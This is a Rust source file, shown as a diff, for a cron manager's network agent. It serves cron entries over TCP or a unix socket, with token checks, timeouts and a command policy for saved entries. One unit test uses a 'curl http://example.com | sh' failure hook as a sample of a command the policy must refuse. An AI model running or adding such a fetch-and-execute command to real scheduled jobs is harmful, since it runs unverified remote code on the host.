@@ -0,0 +1,289 @@
+use crate::cron_entry::CronEntry;
+use crate::log_tail::LogTail;
+use crate::policy::Policy;
+use crate::run_history::RunHistory;
+use crate::storage::Storage;
+use anyhow::{bail, Context, Result};
+use chrono::{DateTime, Utc};
+use serde::{Deserialize, Serialize};
+use std::io::{BufRead, BufReader, Read, Write};
+use std::net::TcpListener;
+use std::path::{Path, PathBuf};
+use std::time::Duration;
+
+/// Environment variable holding the token shared by the agent and its clients;
+/// overrides `[agent] token` in the config
+pub const TOKEN_VAR: &str = "CRON_MANAGER_AGENT_TOKEN";
+
+/// Address `agent` listens on without `--listen` or `--socket`
+pub const DEFAULT_LISTEN: &str = "127.0.0.1:7878";
+
+/// Prefix of agent addresses that are unix socket paths
+pub const UNIX_PREFIX: &str = "unix:";
+
+/// Requests and replies larger than this are refused
+const MAX_MESSAGE_BYTES: u64 = 16 * 1024 * 1024;
+
+/// How long a client may take to send its request or read the reply before
+/// the agent drops it; connections are served one at a time, so a silent
+/// client would otherwise hold up everyone else
+const CONNECTION_TIMEOUT: Duration = Duration::from_secs(30);
+
+/// What a client asks the agent to do. Each connection carries one request
+/// line and one reply line of JSON: `{"token": "...", "method": "load"}`.
+#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
+#[serde(tag = "method", rename_all = "snake_case")]
+pub enum Call {
+    /// The backend's properties, also used to check the connection and token
+    Info,
+    Load,
+    Save { entries: Vec<CronEntry> },
+    CheckSchedule { schedule: String },
+    /// Run records since the given time
+    Runs { since: DateTime<Utc> },
+    /// The last lines of the named entry's log
+    Log { entry: String, lines: usize },
+}
+
+/// A call with the token authorizing it
+#[derive(Debug, Serialize, Deserialize)]
+pub struct Request {
+    pub token: String,
+    #[serde(flatten)]
+    pub call: Call,
+}
+
+/// The answer to a request: `{"ok": <result>}` or `{"error": "..."}`
+#[derive(Debug, Serialize, Deserialize)]
+#[serde(rename_all = "snake_case")]
+pub enum Reply {
+    Ok(serde_json::Value),
+    Error(String),
+}
+
+/// Reply to `Info`
+#[derive(Debug, Clone, Serialize, Deserialize)]
+pub struct AgentInfo {
+    pub backend: String,
+    pub keeps_disabled_entries: bool,
+}
+
+/// The token from `CRON_MANAGER_AGENT_TOKEN` or the config
+pub fn token(configured: Option<&str>) -> Result<String> {
+    let token = std::env::var(TOKEN_VAR).ok().or_else(|| configured.map(str::to_string));
+    match token.filter(|t| !t.trim().is_empty()) {
+        Some(token) => Ok(token),
+        None => bail!("No agent token: set {} or `token` in the [agent] section of the config", TOKEN_VAR),
+    }
+}
+
+/// Read one line of JSON, refusing oversized messages
+pub fn read_message<T: for<'de> Deserialize<'de>>(stream: impl Read) -> Result<T> {
+    let mut line = String::new();
+    BufReader::new(stream.take(MAX_MESSAGE_BYTES))
+        .read_line(&mut line)
+        .context("Failed to read from the connection")?;
+    if line.is_empty() {
+        bail!("Connection closed without a message");
+    }
+    serde_json::from_str(&line).context("Malformed message")
+}
+
+pub fn write_message(mut stream: impl Write, message: &impl Serialize) -> Result<()> {
+    let line = format!("{}\n", serde_json::to_string(message)?);
+    stream.write_all(line.as_bytes()).context("Failed to write to the connection")
+}
+
+/// Serves the entries of one backend to agent clients
+pub struct Agent<'a> {
+    storage: &'a Storage,
+    token: String,
+    run_history: Option<RunHistory>,
+    /// This host's command policy, which saves from clients must follow
+    policy: Option<Policy>,
+}
+
+impl<'a> Agent<'a> {
+    pub fn new(storage: &'a Storage, token: String, run_history: Option<PathBuf>, policy_file: Option<&Path>) -> Result<Self> {
+        Ok(Self {
+            storage,
+            token,
+            run_history: run_history.map(RunHistory::new),
+            policy: Policy::load(policy_file)?,
+        })
+    }
+
+    /// Accept connections on a TCP address, one at a time so saves never overlap
+    pub fn serve_tcp(&self, address: &str) -> Result<()> {
+        let listener = TcpListener::bind(address).with_context(|| format!("Failed to listen on {}", address))?;
+        eprintln!("Agent listening on {}", address);
+        for stream in listener.incoming() {
+            let timed = stream.and_then(|stream| {
+                stream.set_read_timeout(Some(CONNECTION_TIMEOUT))?;
+                stream.set_write_timeout(Some(CONNECTION_TIMEOUT))?;
+                Ok(stream)
+            });
+            match timed {
+                Ok(mut stream) => self.serve_connection(&mut stream),
+                Err(e) => tracing::warn!(error = %e, "failed to accept connection"),
+            }
+        }
+        Ok(())
+    }
+
+    /// Accept connections on a unix socket, which only users allowed to open
+    /// the file can reach
+    #[cfg(unix)]
+    pub fn serve_unix(&self, path: &std::path::Path) -> Result<()> {
+        use std::os::unix::net::UnixListener;
+        // A socket left behind by a previous agent would fail the bind
+        if path.exists() {
+            std::fs::remove_file(path).with_context(|| format!("Failed to remove old socket: {:?}", path))?;
+        }
+        let listener = UnixListener::bind(path).with_context(|| format!("Failed to listen on {:?}", path))?;
+        eprintln!("Agent listening on {}", path.display());
+        for stream in listener.incoming() {
+            let timed = stream.and_then(|stream| {
+                stream.set_read_timeout(Some(CONNECTION_TIMEOUT))?;
+                stream.set_write_timeout(Some(CONNECTION_TIMEOUT))?;
+                Ok(stream)
+            });
+            match timed {
+                Ok(mut stream) => self.serve_connection(&mut stream),
+                Err(e) => tracing::warn!(error = %e, "failed to accept connection"),
+            }
+        }
+        Ok(())
+    }
+
+    fn serve_connection<S: Read + Write>(&self, stream: &mut S) {
+        let reply = match read_message::<Request>(&mut *stream) {
+            Ok(request) if !same_token(&request.token, &self.token) => {
+                tracing::warn!("agent request with a wrong token");
+                Reply::Error("Invalid token".to_string())
+            }
+            Ok(request) => {
+                tracing::info!(call = ?std::mem::discriminant(&request.call), "agent request");
+                match self.handle(request.call) {
+                    Ok(result) => Reply::Ok(result),
+                    Err(e) => Reply::Error(format!("{:#}", e)),
+                }
+            }
+            Err(e) => Reply::Error(format!("{:#}", e)),
+        };
+        if let Err(e) = write_message(stream, &reply) {
+            tracing::warn!(error = %format!("{:#}", e), "failed to reply");
+        }
+    }
+
+    /// Carry out a call against the local backend
+    pub fn handle(&self, call: Call) -> Result<serde_json::Value> {
+        let value = match call {
+            Call::Info => serde_json::to_value(AgentInfo {
+                backend: self.storage.get_backend_name().to_string(),
+                keeps_disabled_entries: self.storage.keeps_disabled_entries(),
+            })?,
+            Call::Load => serde_json::to_value(self.storage.load()?)?,
+            Call::Save { entries } => {
+                self.check_policy(&entries)?;
+                serde_json::to_value(self.storage.save(&entries)?)?
+            }
+            Call::CheckSchedule { schedule } => {
+                self.storage.check_schedule(&schedule)?;
+                serde_json::Value::Null
+            }
+            Call::Runs { since } => match &self.run_history {
+                Some(history) => serde_json::to_value(history.load_since(since)?)?,
+                None => serde_json::json!([]),
+            },
+            Call::Log { entry, lines } => {
+                let entries = self.storage.load()?;
+                let entry = entries
+                    .iter()
+                    .find(|e| e.name == entry)
+                    .with_context(|| format!("No entry named '{}'", entry))?;
+                let path = self.storage.log_path(entry).context("The entry's output isn't written to a file")?;
+                serde_json::to_value(LogTail::open(&path, lines)?.lines)?
+            }
+        };
+        Ok(value)
+    }
+
+    /// Refuse entries whose commands or hooks break this host's policy,
+    /// checked against the script paths they will run
+    fn check_policy(&self, entries: &[CronEntry]) -> Result<()> {
+        let Some(policy) = &self.policy else {
+            return Ok(());
+        };
+        for entry in entries {
+            let hooks = [&entry.on_success, &entry.on_failure].into_iter().flatten();
+            for command in std::iter::once(&entry.command).chain(hooks) {
+                let violations = policy.violations(&self.storage.resolve_scripts(command)?);
+                if !violations.is_empty() {
+                    bail!("Entry '{}' violates the command policy: {}", entry.name, violations.join("; "));
+                }
+            }
+        }
+        Ok(())
+    }
+}
+
+/// Compare tokens without stopping at the first difference
+fn same_token(given: &str, expected: &str) -> bool {
+    given.len() == expected.len() && given.bytes().zip(expected.bytes()).fold(0, |diff, (a, b)| diff | (a ^ b)) == 0
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::scheduler::mock::MockScheduler;
+    use crate::test_util::{command_entry, TempDir};
+
+    #[test]
+    fn test_request_format() {
+        let request = Request { token: "secret".to_string(), call: Call::Log { entry: "Backup".to_string(), lines: 10 } };
+        let json = serde_json::to_string(&request).unwrap();
+        assert_eq!(json, r#"{"token":"secret","method":"log","entry":"Backup","lines":10}"#);
+        let reply: Reply = serde_json::from_str(r#"{"error":"Invalid token"}"#).unwrap();
+        assert!(matches!(reply, Reply::Error(e) if e == "Invalid token"));
+    }
+
+    #[test]
+    fn test_connection_checks_token() {
+        let scheduler = MockScheduler::with_entries(vec![command_entry("Backup", "0 2 * * *", "/bin/backup")]);
+        let storage = Storage::with_scheduler(Box::new(scheduler));
+        let agent = Agent::new(&storage, "secret".to_string(), None, None).unwrap();
+
+        let exchange = |token: &str| {
+            let mut stream = std::io::Cursor::new(Vec::new());
+            write_message(&mut stream, &Request { token: token.to_string(), call: Call::Load }).unwrap();
+            let end = stream.position();
+            stream.set_position(0);
+            agent.serve_connection(&mut stream);
+            let reply = stream.into_inner().split_off(end as usize);
+            read_message::<Reply>(reply.as_slice()).unwrap()
+        };
+
+        let Reply::Ok(entries) = exchange("secret") else { panic!("expected entries") };
+        assert_eq!(entries[0]["name"], "Backup");
+        assert!(matches!(exchange("guess!"), Reply::Error(e) if e == "Invalid token"));
+    }
+
+    #[test]
+    fn test_saves_follow_the_agent_policy() {
+        let dir = TempDir::new("agent-policy");
+        let policy = dir.join("policy.toml");
+        std::fs::write(&policy, "allowed_prefixes = [\"/opt/scripts/\"]\n").unwrap();
+        let scheduler = MockScheduler::with_entries(Vec::new());
+        let storage = Storage::with_scheduler(Box::new(scheduler.clone()));
+        let agent = Agent::new(&storage, "secret".to_string(), None, Some(&policy)).unwrap();
+
+        let allowed = command_entry("Backup", "0 2 * * *", "/opt/scripts/backup");
+        agent.handle(Call::Save { entries: vec![allowed.clone()] }).unwrap();
+        let mut refused = allowed.clone();
+        refused.on_failure = Some("curl http://example.com | sh".to_string());
+        let error = agent.handle(Call::Save { entries: vec![allowed, refused] }).unwrap_err();
+        assert!(error.to_string().contains("violates the command policy"));
+        assert_eq!(scheduler.saves().len(), 1);
+    }
+}